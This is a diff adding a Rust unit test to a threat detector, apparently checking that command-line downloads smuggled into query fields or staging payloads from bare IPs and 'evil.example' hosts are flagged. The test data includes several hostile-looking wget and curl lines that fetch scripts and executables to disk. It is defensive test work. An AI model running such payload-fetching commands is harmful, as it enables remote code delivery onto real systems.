@@ -847,3 +847,26 @@ fn review_bypasses_stay_closed() {
             .threat
     );
 }
+
+/// A download written out whole is a command line; staging a program or a
+/// script, or talking to a bare address, is reported wherever it stands.
+#[test]
+fn downloads_written_out_and_payloads_staged() {
+    let d = detector();
+    let iso = "wget -c https://mirror.example.org/iso/debian-12.7.0-amd64-netinst.iso";
+    assert!(!d.scan_as(iso.as_bytes(), InputKind::Text).threat);
+    assert!(
+        d.scan_as(
+            format!("f={}", iso.replace(' ', "+")).as_bytes(),
+            InputKind::Query
+        )
+        .threat
+    );
+    for t in [
+        "wget http://203.0.113.5/x",
+        "curl -s http://evil.example/x.sh -o /tmp/x.sh",
+        "wget https://evil.example/payload.exe",
+    ] {
+        assert!(d.scan_as(t.as_bytes(), InputKind::Text).threat, "{t:?}");
+    }
+}
